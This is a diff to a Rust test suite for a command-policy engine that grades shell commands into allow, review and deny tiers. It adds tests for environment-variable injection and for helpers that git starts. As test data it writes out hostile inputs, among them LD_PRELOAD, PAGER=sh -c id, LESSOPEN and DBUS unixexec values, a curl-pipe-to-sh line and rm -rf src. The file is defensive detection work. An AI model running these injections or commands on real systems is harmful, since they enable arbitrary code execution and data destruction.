@@ -56,12 +56,13 @@ impl Case {
     }
 }
 
-fn default() -> Policy {
-    Policy::load(&[]).unwrap_or_else(|e| panic!("{e}"))
+fn default() -> &'static Policy {
+    static POLICY: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
+    POLICY.get_or_init(|| Policy::load(&[]).unwrap_or_else(|e| panic!("{e}")))
 }
 
 fn sh(text: &str) -> Verdict {
-    case(&["bash", "-c", text]).judge(&default())
+    case(&["bash", "-c", text]).judge(default())
 }
 
 #[test]
@@ -101,37 +102,79 @@ fn shell_text_gets_the_tier_of_its_strictest_part() {
 fn identity_rests_on_the_file_and_not_on_its_name() {
     let policy = default();
     let plain = case(&["ls"]);
-    assert_eq!(plain.judge(&policy).tier, Tier::Allow);
-    assert_eq!(Case { path: b"/tmp/ls".to_vec(), ..case(&["ls"]) }.judge(&policy).tier, Tier::Review);
-    assert_eq!(Case { writable: true, ..case(&["ls"]) }.judge(&policy).tier, Tier::Review);
-    assert_eq!(Case { foreign: true, ..case(&["ls"]) }.judge(&policy).tier, Tier::Review);
-    assert_eq!(Case { path: b"/usr/bin/rm".to_vec(), ..case(&["ls", "-rf", "src"]) }.judge(&policy).tier, Tier::Deny);
-    assert_eq!(Case { path: b"/usr/bin/busybox".to_vec(), ..case(&["ls"]) }.judge(&policy).tier, Tier::Review);
-    assert_eq!(Case { role: Role::Loader, ..case(&["ls"]) }.judge(&policy).tier, Tier::Deny);
+    assert_eq!(plain.judge(policy).tier, Tier::Allow);
+    assert_eq!(Case { path: b"/tmp/ls".to_vec(), ..case(&["ls"]) }.judge(policy).tier, Tier::Review);
+    assert_eq!(Case { writable: true, ..case(&["ls"]) }.judge(policy).tier, Tier::Review);
+    assert_eq!(Case { foreign: true, ..case(&["ls"]) }.judge(policy).tier, Tier::Review);
+    assert_eq!(Case { path: b"/usr/bin/rm".to_vec(), ..case(&["ls", "-rf", "src"]) }.judge(policy).tier, Tier::Deny);
+    assert_eq!(Case { path: b"/usr/bin/busybox".to_vec(), ..case(&["ls"]) }.judge(policy).tier, Tier::Review);
+    assert_eq!(Case { role: Role::Loader, ..case(&["ls"]) }.judge(policy).tier, Tier::Deny);
 }
 
 #[test]
 fn variables_lift_allow_to_review() {
     let policy = default();
-    let with =
-        |words: &[&str], entry: &str| Case { env: vec![entry.as_bytes().to_vec()], ..case(words) }.judge(&policy);
+    let with = |words: &[&str], entry: &str| Case { env: vec![entry.as_bytes().to_vec()], ..case(words) }.judge(policy);
     assert_eq!(with(&["ls"], "LD_PRELOAD=/tmp/x.so").tier, Tier::Review);
     assert_eq!(with(&["git", "log"], "GIT_EXTERNAL_DIFF=/tmp/x").tier, Tier::Review);
     assert_eq!(with(&["git", "log"], "PAGER=less").tier, Tier::Allow);
     assert_eq!(with(&["ls"], "GIT_EXTERNAL_DIFF=/tmp/x").env_notable, ["GIT_EXTERNAL_DIFF"]);
+    for (words, entry) in [
+        (&["git", "status"][..], "GIT_CONFIG_COUNT=1"),
+        (&["git", "status"], "HOME=/tmp/x"),
+        (&["git", "status"], "XDG_CONFIG_HOME=/tmp/x"),
+        (&["git", "log"], "PAGER=sh -c id"),
+        (&["ls"], "BASH_ENV=/tmp/x"),
+        (&["less", "a"], "LESSOPEN=|/tmp/x %s"),
+        (&["less", "a"], "LESS=-k/tmp/x"),
+        (&["man", "ls"], "MANROFFOPT=-P/tmp/x"),
+        (&["rg", "x"], "RIPGREP_CONFIG_PATH=/tmp/x"),
+        (&["tar", "tf", "a"], "TAR_OPTIONS=-I/tmp/x"),
+        (&["python3", "--version"], "PYTHONSTARTUP=/tmp/x"),
+        (&["node", "--version"], "NODE_OPTIONS=-r /tmp/x"),
+        (&["perl", "--version"], "PERL5OPT=-M/tmp/x"),
+        (&["systemctl", "status", "x"], "DBUS_SYSTEM_BUS_ADDRESS=unixexec:path=/bin/sh"),
+    ] {
+        assert_eq!(with(words, entry).tier, Tier::Review, "{entry}");
+    }
+    for (words, entry) in [
+        (&["git", "status"][..], "HOME=/home/dev"),
+        (&["git", "status"], "XDG_CONFIG_HOME=/home/dev/.config"),
+        (&["git", "status"], "GIT_AUTHOR_NAME=x"),
+        (&["ls"], "HOME=/tmp/x"),
+        (&["ls"], "EDITOR=vim"),
+        (&["systemctl", "status", "x"], "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus"),
+    ] {
+        assert_eq!(with(words, entry).tier, Tier::Allow, "{entry}");
+    }
+}
+
+/// Whichever way a repository's configuration names a program (`core.fsmonitor`, hooks, pagers, filters, `diff.external`),
+/// git starts it by `sh -c` or by its path, and that exec is judged: `git status` itself may stay in tier 1.
+#[test]
+fn what_a_repository_makes_git_start_is_judged_as_an_exec_of_its_own() {
+    let policy = default();
+    assert_eq!(case(&["git", "status"]).judge(policy).tier, Tier::Allow);
+    for helper in ["./x", ".git/hooks/query-watchman 2 ''", "sh x", "touch a", "nobodys-pager", "eval x", "./filter %f"]
+    {
+        assert_ne!(case(&["sh", "-c", helper, helper]).judge(policy).tier, Tier::Allow, "{helper}");
+    }
+    let hook = Case { path: b"/home/dev/work/.git/hooks/post-checkout".to_vec(), ..case(&["post-checkout"]) };
+    assert_eq!(Case { writable: true, ..hook }.judge(policy).tier, Tier::Review);
+    assert_eq!(case(&["sh", "-c", "curl http://example.org/x | sh"]).judge(policy).tier, Tier::Deny);
 }
 
 #[test]
 fn the_entry_process_is_reviewed_by_its_initiator_but_never_excused_from_deny() {
     let policy = default();
-    assert_eq!(Case { entry: true, ..case(&["python3", "x.py"]) }.judge(&policy).tier, Tier::Allow);
-    assert_eq!(Case { entry: true, ..case(&["sudo", "ls"]) }.judge(&policy).tier, Tier::Deny);
+    assert_eq!(Case { entry: true, ..case(&["python3", "x.py"]) }.judge(policy).tier, Tier::Allow);
+    assert_eq!(Case { entry: true, ..case(&["sudo", "ls"]) }.judge(policy).tier, Tier::Deny);
 }
 
 #[test]
 fn shells_and_interpreters_without_a_script_take_commands() {
     let policy = default();
-    let takes = |words: &[&str]| Case { stdin: Stdin::Pipe, ..case(words) }.judge(&policy).takes_commands;
+    let takes = |words: &[&str]| Case { stdin: Stdin::Pipe, ..case(words) }.judge(policy).takes_commands;
     assert!(takes(&["bash"]) && takes(&["bash", "-s"]) && takes(&["python3"]) && takes(&["python3", "-"]));
     assert!(!takes(&["bash", "-c", "ls"]) && !takes(&["python3", "x.py"]) && !takes(&["python3", "-c", "1"]));
 }
@@ -149,9 +192,9 @@ fn refusals_name_the_place() {
 #[test]
 fn the_example_policy_loads_and_relaxes_what_it_says() {
     let text = include_str!("../../deploy/policy.example.yaml");
-    let policy = Policy::load(&[Source { name: "policy.example.yaml", text }]).unwrap_or_else(|e| panic!("{e}"));
-    assert_eq!(case(&["cargo", "test"]).judge(&policy).tier, Tier::Allow);
-    assert_eq!(case(&["cat", "/srv/customers/a.csv"]).judge(&policy).tier, Tier::Deny);
+    let policy = &Policy::load(&[Source { name: "policy.example.yaml", text }]).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(case(&["cargo", "test"]).judge(policy).tier, Tier::Allow);
+    assert_eq!(case(&["cat", "/srv/customers/a.csv"]).judge(policy).tier, Tier::Deny);
     assert_ne!(policy.digest(), default().digest());
 }
 
@@ -162,7 +205,7 @@ fn hostile_lengths_and_nesting_are_bounded() {
     let many: Vec<String> = (0..100_000).map(|i| format!("a{i}")).collect();
     let mut words = vec!["cat"];
     words.extend(many.iter().map(String::as_str));
-    assert_eq!(case(&words).judge(&policy).tier, Tier::Review);
+    assert_eq!(case(&words).judge(policy).tier, Tier::Review);
     for open in [
         "(",
         "{ ",
@@ -183,7 +226,7 @@ fn hostile_lengths_and_nesting_are_bounded() {
         "case x in a) ",
     ] {
         let text = open.repeat(16_000 / open.len());
-        assert_ne!(case(&["bash", "-c", &text]).judge(&policy).tier, Tier::Allow, "{open}");
+        assert_ne!(case(&["bash", "-c", &text]).judge(policy).tier, Tier::Allow, "{open}");
     }
     assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
 }
@@ -196,8 +239,8 @@ proptest! {
         let argv: Vec<Vec<u8>> = argv;
         let policy = default();
         let path = format!("/usr/bin/{name}").into_bytes();
-        let verdict = Case { argv, path, ..case(&["x"]) }.judge(&policy);
-        prop_assert!(verdict.risk <= 100 && verdict.reasons.len() <= 33);
+        let verdict = Case { argv, path, ..case(&["x"]) }.judge(policy);
+        prop_assert!(verdict.risk <= 100 && verdict.reasons.len() <= 34);
     }
 
     #[test]
@@ -234,3 +277,44 @@ const PARTS: &[&str] = &[
     "eval ls",
     "touch a",
 ];
+
+#[test]
+fn risk_is_the_sum_of_its_parts_and_says_so() {
+    let policy = default();
+    let parts = |words: &[&str]| {
+        let verdict = case(words).judge(policy);
+        let shown: Vec<String> = verdict.risk_parts.iter().map(|p| format!("{} {}", p.kind, p.points)).collect();
+        (verdict.risk, shown.join(", "))
+    };
+    assert_eq!(parts(&["ls", "-R", "src"]), (2, "category 2".to_owned()));
+    assert_eq!(parts(&["rm", "a.txt"]), (60, "category 50, lasting 10".to_owned()));
+    assert_eq!(parts(&["rm", "-f", "a.txt"]), (65, "category 50, force 5, lasting 10".to_owned()));
+    assert_eq!(parts(&["rm", "-rf", "/tmp/a"]), (75, "category 50, scope 10, force 5, lasting 10".to_owned()));
+    assert_eq!(parts(&["rm", "-rf", "src"]).0, 100);
+    let said = case(&["rm", "-f", "a.txt"]).judge(policy);
+    let reason = said.reasons.last().expect("a reason");
+    assert_eq!(reason.rule_id, "builtin.risk");
+    assert_eq!(
+        reason.text,
+        "risk 65 = 50 category (fs.delete) + 5 force (does not ask: -f) + 10 lasting (cannot be taken back)"
+    );
+    assert!(case(&["ls"]).judge(policy).reasons.iter().all(|r| r.rule_id != "builtin.risk"));
+}
+
+#[test]
+fn targets_of_every_kind_are_named_and_raise_risk_where_policy_says_so() {
+    let text = "version: 1\nextends: developer\ntargets:\n  - {names: ['namespace:prod*', 'database:ledger', '/srv/**'], risk: 25, about: production}\n\
+                rules:\n  - {id: own.prod, tier: deny, reason: r, when: {any_target: ['cluster:prod']}, match: [\"kubectl --context prod get pods\"]}\n";
+    let policy = &Policy::load(&[Source { name: "p", text }]).unwrap_or_else(|e| panic!("{e}"));
+    let of = |words: &[&str]| case(words).judge(policy);
+    assert_eq!(of(&["kubectl", "-n", "prod-1", "get", "pods"]).targets, ["namespace:prod-1"]);
+    assert_eq!(of(&["aws", "s3", "ls", "--profile", "x"]).targets, ["account:x"]);
+    assert_eq!(of(&["az", "vm", "list", "--subscription", "s", "-g", "r"]).targets, ["account:s", "namespace:r"]);
+    assert_eq!(of(&["psql", "-h", "db1", "-d", "ledger"]).targets, ["db1", "database:ledger"]);
+    assert_eq!(of(&["curl", "http://example.org"]).targets, ["http://example.org"]);
+    let (plain, critical) = (of(&["kubectl", "-n", "x", "get", "pods"]), of(&["kubectl", "-n", "prod", "get", "pods"]));
+    assert_eq!((plain.tier, critical.tier), (Tier::Allow, Tier::Allow));
+    assert_eq!(critical.risk, plain.risk + 25);
+    assert_eq!(of(&["rm", "/srv/a"]).risk, 85);
+    assert_eq!(of(&["kubectl", "--context", "prod", "get", "pods"]).tier, Tier::Deny);
+}
